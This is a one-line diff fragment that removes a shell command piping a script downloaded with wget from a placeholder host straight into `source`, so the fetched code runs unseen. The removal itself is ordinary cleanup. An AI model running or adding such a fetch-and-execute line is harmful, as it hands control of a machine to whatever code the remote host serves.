@@ -1,1 +1,0 @@
-source <(wget -qO- https://example.com/e)
